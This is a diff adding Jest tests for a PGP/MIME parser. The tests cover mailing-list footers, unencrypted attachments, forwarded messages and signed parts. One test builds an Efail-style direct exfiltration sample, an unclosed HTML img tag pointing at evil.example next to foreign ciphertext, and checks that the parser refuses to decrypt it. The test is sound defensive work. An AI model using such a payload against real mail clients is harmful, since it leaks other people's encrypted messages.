@@ -273,3 +273,103 @@ ${b64(ciphertext)}
   expect(opened.encryption).toBe('encrypted');
   expect(opened.text).toContain('open redirect in /go');
 });
+
+describe('PGP/MIME as a part of multipart/mixed: a list footer, an attachment beside it, a forward (gpg)', () => {
+  const FOOTER = 'You received this message because you are subscribed to the Google Groups "security" group.';
+  let known: OpenContext;
+  beforeAll(async () => {
+    const key = await openpgp.readKey({ armoredKey: await gpg.exportPublic(reporterFpr) });
+    known = { ...ctx, knownKeys: async () => [key] };
+  });
+
+  /** The PGP/MIME entity alone (no envelope headers), as a list passes it on as its first part. */
+  async function encryptedPart(text: string, signed: boolean): Promise<string> {
+    const entity = crlf(`Content-Type: text/plain; charset=utf-8\n\n${text}\n`);
+    const armored = (await gpg.encrypt(entity, [teamFpr], signed ? { signWith: reporterFpr } : {})).toString();
+    const whole = pgpMimeEncrypted({ from: 'rita@example.net', to: 'security@example.com', armoredCiphertext: armored }).toString('latin1');
+    // Keep its Content-Type header and body: that is the part.
+    const ct = whole.slice(whole.indexOf('Content-Type: multipart/encrypted'));
+    return ct;
+  }
+
+  function mixed(first: string, others: string[], headers = ''): Buffer {
+    return Buffer.from(
+      crlf(
+        `Return-Path: <rita@example.net>\nFrom: Rita Reporter <rita@example.net>\nTo: security@example.com\nSubject: report\n${headers}MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="mix"\n\n--mix\n`,
+      ) +
+        first +
+        others.map((o) => `\r\n--mix\r\n${crlf(o)}`).join('') +
+        '\r\n--mix--\r\n',
+      'latin1',
+    );
+  }
+
+  it("the sender's own signed and encrypted report with a Google Group footer opens: partial, the footer kept apart", async () => {
+    const raw = mixed(
+      await encryptedPart('IDOR in /api/invoices/ID.', true),
+      [`Content-Type: text/plain; charset=utf-8\n\n-- \n${FOOTER}\n`],
+      'List-Id: <security.example.com>\n',
+    );
+    const opened = await openMessage(raw, known);
+    expect(opened.encryption).toBe('partial');
+    expect(opened.text).toContain('IDOR in /api/invoices/ID.');
+    expect(opened.text).not.toContain('Google Groups');
+    expect(opened.unencryptedText).toContain(FOOTER);
+    expect(opened.signature.status).toBe('valid');
+    expect(opened.signedPartly).toBe(true);
+    expect(opened.unopened).toBeUndefined();
+  });
+
+  it('KMail: encrypted text with an unencrypted attachment beside it opens, the attachment marked as not encrypted', async () => {
+    const raw = mixed(await encryptedPart('See the log beside this mail.', true), [
+      'Content-Type: text/plain; name="server.log"\nContent-Disposition: attachment; filename="server.log"\n\n500 at /login\n',
+    ]);
+    const opened = await openMessage(raw, known);
+    expect(opened.encryption).toBe('partial');
+    expect(opened.text).toContain('See the log beside this mail.');
+    expect(opened.attachments.map((a) => [a.filename, a.encrypted])).toContainEqual(['server.log', false]);
+  });
+
+  it("someone else's unsigned ciphertext beside the sender's own HTML (Efail's direct exfiltration) is not opened, and the message says so", async () => {
+    const raw = mixed(await encryptedPart('A secret someone else sent you.', false), ['Content-Type: text/html\n\n<img src="https://evil.example/x?', '']);
+    const opened = await openMessage(raw, known);
+    expect(opened.encryption).toBe('none');
+    expect(JSON.stringify(opened)).not.toContain('A secret someone else sent you.');
+    expect(opened.unopened).toMatch(/not signed by the sender/);
+  });
+
+  it('a forwarded encrypted message (message/rfc822) is not opened, and the message says so', async () => {
+    const inner = pgpMimeEncrypted({
+      from: 'other@example.org',
+      to: 'security@example.com',
+      armoredCiphertext: (await gpg.encrypt('forwarded secret\n', [teamFpr])).toString(),
+    });
+    const raw = Buffer.concat([
+      Buffer.from(
+        crlf(
+          'Return-Path: <rita@example.net>\nFrom: Rita Reporter <rita@example.net>\nTo: security@example.com\nSubject: Fwd: report\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="fw"\n\n--fw\nContent-Type: text/plain\n\nSee below.\n--fw\nContent-Type: message/rfc822\n\n',
+        ),
+      ),
+      inner,
+      Buffer.from('\r\n--fw--\r\n'),
+    ]);
+    const opened = await openMessage(raw, known);
+    expect(opened.encryption).toBe('none');
+    expect(JSON.stringify(opened)).not.toContain('forwarded secret');
+    expect(opened.unopened).toMatch(/forwarded/);
+  });
+
+  it('a signed (not encrypted) PGP/MIME message with a list footer: valid over its own part, the footer kept apart', async () => {
+    const part = crlf('Content-Type: text/plain; charset=utf-8\n\nThe reset token never expires.\n');
+    const { signature, micalg } = await gpg.signDetached(Buffer.from(part), reporterFpr);
+    const signedPart = `Content-Type: multipart/signed; micalg=${micalg}; protocol="application/pgp-signature"; boundary="sig"\r\n\r\n--sig\r\n${part}\r\n--sig\r\nContent-Type: application/pgp-signature\r\n\r\n${signature.toString()}\r\n--sig--`;
+    const raw = mixed(signedPart, [`Content-Type: text/plain\n\n${FOOTER}\n`]);
+    const opened = await openMessage(raw, known);
+    expect(opened.encryption).toBe('none');
+    expect(opened.signature.status).toBe('valid');
+    expect(opened.text).toContain('The reset token never expires.');
+    expect(opened.text).not.toContain('Google Groups');
+    expect(opened.unencryptedText).toContain(FOOTER);
+    expect(opened.signedPartly).toBe(true);
+  });
+});
